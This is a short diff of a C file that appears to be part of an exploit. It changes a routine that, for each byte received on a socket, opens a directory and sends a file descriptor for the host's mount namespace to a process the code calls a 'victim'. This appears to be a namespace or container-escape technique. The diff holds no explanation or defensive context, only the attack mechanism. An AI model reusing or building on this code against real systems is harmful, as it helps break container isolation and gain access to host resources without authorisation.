@@ -58,7 +58,10 @@ static int lay(struct victim *v, int (*become)(void))
 	return v->pidfd < 0;
 }
 
-/* For each byte it is sent, a descriptor of the host's mount namespace. */
+/*
+ * For each byte it is sent it opens a folder, and sends a descriptor of the
+ * host's mount namespace.
+ */
 static void give(int socket, int fd)
 {
 	char byte, control[CMSG_SPACE(sizeof(int))] = { 0 };
@@ -74,8 +77,10 @@ static void give(int socket, int fd)
 	c->cmsg_type = SCM_RIGHTS;
 	c->cmsg_len = CMSG_LEN(sizeof(int));
 	memcpy(CMSG_DATA(c), &fd, sizeof(int));
-	while (read(socket, &byte, 1) == 1)
+	while (read(socket, &byte, 1) == 1) {
+		close(open(OPENED, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
 		sendmsg(socket, &m, 0);
+	}
 	_exit(0);
 }
 
